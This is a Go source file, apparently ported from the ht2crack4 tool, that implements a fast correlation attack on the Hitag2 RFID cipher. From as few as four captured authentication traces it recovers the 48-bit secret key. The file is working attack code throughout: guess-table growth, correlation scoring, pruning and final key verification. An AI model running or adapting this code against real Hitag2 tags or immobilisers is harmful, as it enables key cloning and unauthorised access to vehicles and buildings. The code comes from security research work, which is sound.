// Package correlate implements Attack 4: the fast correlation attack,
// recovering a key from as few as 4 (and usually fewer than 16) observed
// authentication traces by scoring partial-key guesses against how likely
// the filter function was to have produced the observed keystream, rather
// than by brute force or a precomputed table.
package correlate

import (
	"errors"
	"time"

	"github.com/rs/zerolog"

	"github.com/RfidResearchGroup/ht2crack/pkg/hitag2"
	"github.com/RfidResearchGroup/ht2crack/pkg/trace"
)

var errNeedTwoTraces = errors.New("correlate: need at least 2 (nR, aR) traces")

// Config bounds a Crack run. MaxTableSize trades runtime for success
// probability: the reference tool's guidance is to start around 500000
// and double on failure. ThreadCount mirrors the reference's NUM_THREADS.
type Config struct {
	MaxTableSize int
	ThreadCount  int
}

// DefaultConfig mirrors ht2crack4.c's defaults (maxtablesize 800000, 8
// threads).
func DefaultConfig() Config {
	return Config{MaxTableSize: 800000, ThreadCount: 8}
}

// Result is a recovered key.
type Result struct {
	Key uint64
}

// Crack runs Attack 4 against uid and a set of observed traces (4 to 32,
// per the reference tool's guidance — more traces cost little extra time
// and improve the odds of success). It grows a table of key-bit guesses
// one bit at a time from 16 bits up to the full 48, scoring every guess's
// correlation with the observed keystreams after each bit and discarding
// the worse half, then checks every surviving guess against the first two
// traces for an exact match. Ported from ht2crack4.c's crack/main.
func Crack(uid uint32, traces []trace.AuthTrace, cfg Config, logger zerolog.Logger) (Result, bool, error) {
	if len(traces) < 2 {
		return Result{}, false, errNeedTwoTraces
	}
	if cfg.MaxTableSize < 0x10000 {
		cfg.MaxTableSize = 0x10000
	}
	if cfg.ThreadCount <= 0 {
		cfg.ThreadCount = 8
	}

	nonces := make([]nonce, len(traces))
	for i, tr := range traces {
		nonces[i] = nonce{encNR: uint64(tr.NR), ks: uint64(tr.Keystream())}
	}

	guesses := initGuessTable(cfg.MaxTableSize, len(nonces))
	numGuesses := 0x10000

	start := time.Now()
	for size := 16; size <= 48; size++ {
		numGuesses = executeRound(guesses, numGuesses, size, cfg, nonces, uint64(uid))
		top := guesses[0]
		logger.Debug().
			Int("round", size-16).
			Int("size", size).
			Int("numGuesses", numGuesses).
			Float64("topScore", top.score).
			Float64("minScore", guesses[numGuesses-1].score).
			Str("guess", trace.FormatKey(top.key)).
			Dur("elapsed", time.Since(start)).
			Msg("correlate round")
	}

	for i := 0; i < numGuesses; i++ {
		key := guesses[i].key
		if checkKey(key, uid, nonces[0]) && checkKey(key, uid, nonces[1]) {
			return Result{Key: key}, true, nil
		}
	}
	return Result{}, false, nil
}

// executeRound scores every current guess at the new bit size, sorts by
// score, and expands the better half into the next round's full guess
// set. Ported from ht2crack4.c's execute_round.
func executeRound(guesses []guess, numGuesses, size int, cfg Config, nonces []nonce, uid uint64) int {
	active := guesses[:numGuesses]
	scoreAllTraces(active, size, nonces, uid, cfg.ThreadCount)
	sortByScoreDesc(active)

	halfsize := numGuesses
	if cfg.MaxTableSize/2 < halfsize {
		halfsize = cfg.MaxTableSize / 2
	}
	expandGuesses(guesses, halfsize, size)
	return halfsize * 2
}

// checkKey replays key against one trace's nR and compares the resulting
// 32 keystream bits to the trace's recovered keystream. Ported from
// ht2crack4.c's check_key, using the real cipher rather than the
// correlation attack's filter approximation.
func checkKey(key uint64, uid uint32, n nonce) bool {
	s := hitag2.Init(key, uid, uint32(n.encNR))
	_, bits := hitag2.NStep(s, 32)
	return bits == n.ks
}
